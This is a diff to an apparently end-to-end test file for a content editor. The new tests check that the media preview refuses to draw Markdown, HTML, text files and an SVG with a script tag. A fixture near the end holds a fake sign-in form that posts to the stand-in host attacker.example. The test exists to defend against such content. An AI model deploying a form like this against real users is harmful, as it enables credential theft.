@@ -97,10 +97,9 @@ describe('the open editor', () => {
   test('draws every icon, as no word', async () => {
     const content = mkdtempSync(join(tmpdir(), 'content-'));
     cpSync(TESTED_CONTENT, content, { recursive: true });
-    writeFileSync(
-      join(content, 'images', 'note.md'),
-      `# Connexion\n\nUn mot.<style>${HIDING}</style>`,
-    );
+    for (const [name, text] of Object.entries(UNSHOWN)) {
+      writeFileSync(join(content, 'images', name), text);
+    }
     editor = await openLocalEditor(page, content);
     rmSync(content, { recursive: true });
     await page.evaluate(() => document.fonts.ready.then(() => undefined));
@@ -109,16 +108,26 @@ describe('the open editor', () => {
     expect(await wordsOfIcons(page)).toEqual([]);
   });
 
-  test('shows Markdown among the pictures without its styles', async () => {
-    await page.evaluate(() => {
-      location.hash = '#/assets/content/images/note.md';
-    });
-    const shown = page.getByRole('figure').filter({ hasText: 'Connexion' });
-    await shown.waitFor();
-    const styles = await page
-      .locator('style')
-      .evaluateAll((elements) => elements.map(({ textContent }) => textContent));
-    expect(styles.join('\n')).not.toContain(HIDING);
+  test('draws no text among the media, nor a drawing that the check refuses', async () => {
+    const opened = page.getByRole('group', { name: 'Éditeur de fichiers' });
+    /** The size in px of what is drawn of a file. */
+    const drawn = async (name: string) => {
+      await page.evaluate((file) => {
+        location.hash = `#/assets/content/images/${file}`;
+      }, name);
+      await opened.locator(`.detail a[href$="/${name}"]`).waitFor();
+      const parts = opened.locator('.preview').locator('figure, [role="figure"], form, img');
+      return () =>
+        parts.evaluateAll((all) =>
+          Math.max(0, ...all.map((each) => Number(Reflect.get(each, 'naturalWidth') ?? 1))),
+        );
+    };
+    for (const name of Object.keys(UNSHOWN)) {
+      const size = await drawn(name);
+      await opened.locator('.preview').locator('[role="alert"], .icon').first().waitFor();
+      expect([name, await size()]).toEqual([name, 0]);
+    }
+    await expect.poll(await drawn('cover-reel-1.svg')).toBeGreaterThan(1);
   });
 
   test('takes a PDF, and its policy refuses nothing but what is of elsewhere', async () => {
@@ -146,8 +155,16 @@ describe('the open editor', () => {
   });
 });
 
-/** A style that a file would bring to all of the editor. */
-const HIDING = 'body { opacity: 0.99 }';
+const FALSE_SIGN_IN =
+  '# Connexion\n\n<form action="https://attacker.example"><input><button>Entrer</button></form>';
+
+/** Files among the pictures that the editor may not draw. */
+const UNSHOWN = {
+  ...{ 'note.md': FALSE_SIGN_IN, 'page.html': FALSE_SIGN_IN, 'page.xhtml': FALSE_SIGN_IN },
+  ...{ 'donnees.json': '{}', 'sous-titres.vtt': 'WEBVTT', 'sous-titres.srt': '1', 'mots.txt': 'a' },
+  'dessin.svg':
+    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script/><path d="M0 0h9v9z"/></svg>',
+};
 
 /** The icons that are wider than one: their font was not there. */
 function wordsOfIcons(page: Page): Promise<(string | null)[]> {
